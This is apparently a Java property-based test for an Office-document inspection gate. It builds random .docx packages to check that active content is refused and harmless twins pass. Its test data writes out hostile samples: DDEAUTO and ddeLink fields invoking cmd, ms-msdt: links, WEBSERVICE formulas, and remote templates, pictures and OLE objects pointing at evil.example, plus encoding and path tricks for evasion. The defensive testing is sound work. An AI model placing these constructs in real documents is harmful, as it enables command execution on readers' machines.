package org.sluis.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.ShrinkingMode;
import org.sluis.kernel.Problem;

/**
 * Packages made at random (security row F9): each active construct, however its part is named, declared, written and reached,
 * is refused; the same package without the construct passes. {@code -Dsluis.gate.tries} says how many are made.
 */
class RandomPackagesTest {

    private static final int TRIES = Integer.getInteger("sluis.gate.tries", 300);
    private static final int GENERATIONS = 1000;
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private final Laboratory laboratory = Laboratory.shared();

    /** A piece of XML that does something, and its twin that does not. */
    private enum Construct {
        FIELD("<w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r>", "<w:r><w:instrText> PAGE </w:instrText></w:r>"),
        SIMPLE_FIELD("<w:fldSimple w:instr='DDE cmd x'/>", "<w:fldSimple w:instr='DATE'/>"),
        REMOTE_FIELD(
                "<w:fldSimple w:instr='INCLUDEPICTURE \"https://evil.example/p.png\"'/>",
                "<w:fldSimple w:instr='HYPERLINK \"https://example.org\"'/>"),
        FORMULA("<w:f>_xlfn.WEBSERVICE(A1)</w:f>", "<w:f>SUM('Webservice (1)'!A1)</w:f>"),
        OLD_PICTURE("<v:imagedata src='https://evil.example/p.png'/>", "<v:imagedata src='image1.png'/>"),
        OLD_LINK("<v:rect href='ms-msdt:/id'/>", "<v:rect href='https://example.org'/>"),
        SCRIPT(
                "<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:script>x</x:script></x:svg>",
                "<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:g/></x:svg>"),
        DDE("<w:ddeLink ddeService='cmd' ddeTopic='/c calc'/>", "<w:book/>"),
        QUERY("<w:webPr url='https://evil.example'/>", "<w:prop/>");

        private final String active;
        private final String harmless;

        Construct(String active, String harmless) {
            this.active = active;
            this.harmless = harmless;
        }
    }

    /** A relationship to something outside, and one that may be there. */
    private enum Outside {
        TEMPLATE("attachedTemplate", "https://evil.example/t.dotm", "file:///C:/t.dotx"),
        OBJECT("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x", "file:///C:/x.xlsx"),
        WORKBOOK("externalLinkPath", "\\\\server\\x.xlsx", "x.xlsx"),
        PICTURE("image", "https://evil.example/p.png", "cid:p.png"),
        FRAME("frame", "https://evil.example/", ""),
        LINK("hyperlink", "ms-msdt:/id", "https://example.org"),
        OTHER("somethingNew", "https://evil.example/", "");

        private final String kind;
        private final String active;
        private final String harmless;

        Outside(String kind, String active, String harmless) {
            this.kind = kind;
            this.active = active;
            this.harmless = harmless;
        }
    }

    /** How XML is written; some ways are against its rules, and are refused whatever they say. */
    private enum Writing {
        PLAIN("", StandardCharsets.UTF_8, "", true),
        DECLARED("", StandardCharsets.UTF_8, "<?xml version='1.0' encoding='UTF-8'?>", true),
        WESTERN("", StandardCharsets.ISO_8859_1, "<?xml version='1.0' encoding='windows-1252'?>", true),
        MARKED("\ufeff", StandardCharsets.UTF_8, "", true),
        MARKED_AND_DECLARED("\ufeff", StandardCharsets.UTF_8, "<?xml version='1.0'?>", true),
        LITTLE_ENDIAN("\ufeff", StandardCharsets.UTF_16LE, "", true),
        BIG_ENDIAN("\ufeff", StandardCharsets.UTF_16BE, "<?xml version='1.0' encoding='UTF-16'?>", true),
        LITTLE_ENDIAN_UNMARKED("", StandardCharsets.UTF_16LE, "<?xml version='1.0' encoding='UTF-16'?>", true),
        BIG_ENDIAN_UNMARKED("", StandardCharsets.UTF_16BE, "<?xml version='1.0' encoding='UTF-16'?>", true),
        LITTLE_ENDIAN_BARE("", StandardCharsets.UTF_16LE, "", false),
        BIG_ENDIAN_BARE("", StandardCharsets.UTF_16BE, "\n", false),
        WIDE("\ufeff", Charset.forName("UTF-32LE"), "", false),
        LINE_FIRST("", StandardCharsets.UTF_8, "\n \t", true),
        LINE_BEFORE_DECLARATION("", StandardCharsets.UTF_8, "\n<?xml version='1.0'?>", false),
        INSTRUCTION_FIRST("", StandardCharsets.UTF_8, "<?mso-application progid='x'?>", true),
        COMMENT_FIRST("", StandardCharsets.UTF_8, "<!-- x -->", true),
        DOCUMENT_TYPE("", StandardCharsets.UTF_8, "<!DOCTYPE a>", false);

        private final String mark;
        private final Charset charset;
        private final String beginning;
        private final boolean legal;

        Writing(String mark, Charset charset, String beginning, boolean legal) {
            this.mark = mark;
            this.charset = charset;
            this.beginning = beginning;
            this.legal = legal;
        }

        byte[] bytes(String xml) {
            return (mark + beginning + xml).getBytes(charset);
        }
    }

    private enum Spelling {
        RELATIVE,
        ABSOLUTE,
        IN_CAPITALS,
        ENCODED,
        ENCODED_TWICE,
        AROUND,
        BACKWARDS;

        String target(String part) {
            String name = part.substring("word/".length());
            return switch (this) {
                case RELATIVE -> name;
                case ABSOLUTE -> "/" + part;
                case IN_CAPITALS -> name.toUpperCase(java.util.Locale.ROOT);
                case ENCODED -> name.replace("1", "%31").replace(".", "%2e");
                case ENCODED_TWICE -> name.replace("1", "%2531");
                case AROUND -> "./media/../" + name;
                case BACKWARDS -> "..\\word\\" + name.replace('/', '\\');
            };
        }
    }

    /** @param kinds of the relationships that lead to the part */
    private record Part(
            Construct construct,
            Writing writing,
            String name,
            Optional<String> type,
            List<String> kinds,
            Spelling spelling) {

        byte[] in(boolean active) {
            WordDocument document = new WordDocument();
            type.ifPresent(declared -> document.declared("/" + name, declared));
            kinds.forEach(kind -> document.internal(kind, spelling.target(name)));
            String xml = "<w:x xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
                    + " xmlns:v='urn:schemas-microsoft-com:vml'>%s</w:x>";
            return document.part(name, writing.bytes(xml.formatted(active ? construct.active : construct.harmless)))
                    .bytes();
        }
    }

    /** @param place of the relationships */
    private record Link(Outside outside, Writing writing, String place, String prefix, String mode) {

        byte[] in(boolean active) {
            String xml = "<%1$sRelationships xmlns%2$s='http://schemas.openxmlformats.org/package/2006/relationships'>"
                    + "<%1$sRelationship Id='z' Type='" + OFFICE + outside.kind + "' TargetMode='" + mode
                    + "' Target='" + (active ? outside.active : outside.harmless) + "'/></%1$sRelationships>";
            String declaration = prefix.isEmpty() ? "" : ":" + prefix;
            String before = prefix.isEmpty() ? "" : prefix + ":";
            return new WordDocument()
                    .part(place, writing.bytes(xml.formatted(before, declaration)))
                    .bytes();
        }

        boolean hasTwin() {
            return writing.legal && !outside.harmless.isEmpty();
        }
    }

    @Property(tries = 1, shrinking = ShrinkingMode.OFF)
    void noPartHidesWhatItDoes(@ForAll Random random) {
        RandomGenerator<Part> parts = parts().generator(GENERATIONS);
        for (int time = 0; time < TRIES; time++) {
            Part part = parts.next(random).value();
            refused(part.in(true), part);
            if (part.writing().legal) {
                passes(part.in(false), part);
            }
        }
    }

    @Property(tries = 1, shrinking = ShrinkingMode.OFF)
    void noRelationshipHidesWhereItLeads(@ForAll Random random) {
        RandomGenerator<Link> links = links().generator(GENERATIONS);
        for (int time = 0; time < TRIES; time++) {
            Link link = links.next(random).value();
            refused(link.in(true), link);
            if (link.hasTwin()) {
                passes(link.in(false), link);
            }
        }
    }

    private void refused(byte[] document, Object made) {
        assertThat(laboratory.refusal("a.docx", document))
                .as("with what it does: %s", made)
                .isPresent()
                .get()
                .isIn(Problem.ACTIVE_CONTENT, Problem.UNREADABLE_CONTENT, Problem.TYPE_NOT_ALLOWED);
    }

    private void passes(byte[] document, Object made) {
        assertThat(laboratory.inspect("a.docx", document).objection())
                .as("without what it does: %s", made)
                .isEmpty();
    }

    private static Arbitrary<Part> parts() {
        Arbitrary<String> names = Arbitraries.of(
                "word/x1.xml",
                "word/x1.vml",
                "word/x1.txt",
                "word/x1.bin",
                "word/x1",
                "word/X1.XML",
                "word/media/x1.png",
                "word/x 1.dat",
                "word/x1.rels.xml",
                "customXml/x1.xml".replace("customXml", "word/customXml"));
        Arbitrary<Optional<String>> types = Arbitraries.of(Arrays.asList(
                Optional.empty(),
                Optional.of("application/xml"),
                Optional.of("application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"),
                Optional.of("application/vnd.openxmlformats-officedocument.vmlDrawing"),
                Optional.of("application/octet-stream"),
                Optional.of("image/png"),
                Optional.of("text/plain"),
                Optional.of("application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings")));
        Arbitrary<List<String>> kinds = Arbitraries.of(List.of(
                List.of(),
                List.of("footer"),
                List.of("image"),
                List.of("customXml"),
                List.of("somethingNew"),
                List.of("vmlDrawing"),
                List.of("printerSettings", "footer"),
                List.of("font", "image")));
        return Combinators.combine(
                        Arbitraries.of(Construct.class),
                        Arbitraries.of(Writing.class),
                        names,
                        types,
                        kinds,
                        Arbitraries.of(Spelling.class))
                .as(Part::new);
    }

    private static Arbitrary<Link> links() {
        Arbitrary<String> places = Arbitraries.of(
                "word/_rels/footer1.xml.rels",
                "xl/_rels/none.xml.rels",
                "_rels/x.rels",
                "word/_RELS/Footer1.XML.RELS",
                "customXml/_rels/item1.xml.rels",
                "word/loose.rels");
        return Combinators.combine(
                        Arbitraries.of(Outside.class),
                        Arbitraries.of(Writing.class),
                        places,
                        Arbitraries.of("", "p"),
                        Arbitraries.of("External", "external", "EXTERNAL", "Other"))
                .as(Link::new);
    }
}
